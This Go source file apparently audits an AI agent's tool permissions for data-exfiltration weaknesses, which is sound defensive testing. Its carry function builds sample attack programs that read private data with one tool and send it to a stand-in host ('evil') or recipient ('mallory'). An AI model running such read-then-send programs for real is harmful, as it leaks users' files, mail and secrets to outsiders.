package policy

import (
	"cmp"
	"fmt"
	"slices"
	"strings"
)

// private are words in the names of tools that read what is the user's own.
var private = []string{"file", "files", "text", "mail", "mails", "message", "messages", "note", "notes", "document",
	"documents", "record", "records", "customer", "customers", "contents", "secret", "secrets", "env", "graph", "database"}

// exfiltration are programs that read with one tool and send what they read with another.
func (s *subject) exfiltration() (all []weakness) {
	sources := s.sources()
	for _, t := range s.tools {
		carrier := t.carrier()
		if carrier == nil || t.sample == nil {
			continue
		}
		i := slices.IndexFunc(sources, func(from *tool) bool {
			return from != t && (from.Server != t.Server || t.sends())
		})
		if i < 0 {
			continue
		}
		from := sources[i]
		args, ok := s.outwards(t, carrier)
		if !ok {
			continue
		}
		severity := Medium
		if t.sends() {
			severity = High
		}
		mend := "ask about " + t.Name
		if !s.registry.Describe(from.Tool).Trusted {
			mend += `, or about every call with what was read: "raise": {"tainted": "ask"}`
		}
		all = append(all, weakness{family: Exfiltration, severity: severity, mend: mend,
			attacks: []attack{{tool: t, program: carry(from, s.harmless(from), t, args, carrier), carries: true,
				message: fmt.Sprintf("a program may send what %s read out with %s, and nobody is asked", from.Name, t.Name)}}})
	}
	return all
}

// sources are the tools to read with: allowed ones first, and of these, those that read files, and those whose name
// says that what they read is private.
func (s *subject) sources() (all []*tool) {
	order := map[*tool]int{}
	for _, t := range s.tools {
		if t.Server == "time" || t.sample == nil || !t.reads() {
			continue
		}
		if s.allowed(t) == nil {
			order[t] += 3
		}
		switch {
		case t.argument(path) != nil:
		case t.has(private):
			order[t]++
		default:
			order[t] += 2
		}
		all = append(all, t)
	}
	slices.SortStableFunc(all, func(a, b *tool) int { return cmp.Compare(order[a], order[b]) })
	return all
}

// carrier is the argument that takes what was read out; nil if the tool sends nothing.
func (t *tool) carrier() *argument {
	switch {
	case t.sends():
		return t.argument(website, prose)
	case t.writes() && !t.says("openWorldHint", false) && t.verb(writeVerbs):
		return t.argument(prose)
	}
	return nil
}

// outwards are arguments of a call to somebody else, as far as the tool has a place for them. ok is false if a rule
// chose the recipient: the call is no secret way out then.
func (s *subject) outwards(t *tool, carrier *argument) (args map[string]any, ok bool) {
	args = s.harmless(t)
	d := s.decide(t, args)
	free := carrier.kind == website
	for i := range t.arguments {
		if a := &t.arguments[i]; a.kind == address && a.required {
			args, free = with(args, stepsOf(a), mallory), true
		}
	}
	if r := s.behind(&d); !free && r != nil && len(r.When) > 0 {
		return nil, false
	}
	return args, true
}

// carry is a program that reads, and sends what it read.
func carry(from *tool, read map[string]any, to *tool, args map[string]any, carrier *argument) string {
	const mark = "@@what was read@@"
	value, expression := mark, "JSON.stringify(read)"
	if carrier.kind == website {
		value, expression = "https://"+evil+"/?"+mark, `"https://`+evil+`/?" + encodeURIComponent(JSON.stringify(read))`
	}
	send := to.expression(literal(with(args, stepsOf(carrier), value)))
	send = strings.Replace(send, literal(value), expression, 1)
	return fmt.Sprintf("const read = await %s;\nreturn await %s;", from.expression(literal(read)), send)
}
